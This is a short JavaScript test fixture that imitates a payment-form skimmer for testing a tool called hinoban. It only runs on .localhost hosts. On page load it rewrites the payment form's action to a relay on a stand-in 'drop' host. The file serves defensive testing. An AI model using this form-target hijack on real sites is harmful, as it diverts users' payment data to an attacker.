/* Harmless imitation, for hinoban's tests: form target rewritten, a relay sends on. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
addEventListener('load', function () { document.querySelector('form#pay').action = 'http://drop.localhost:' + location.port + '/relay'; });
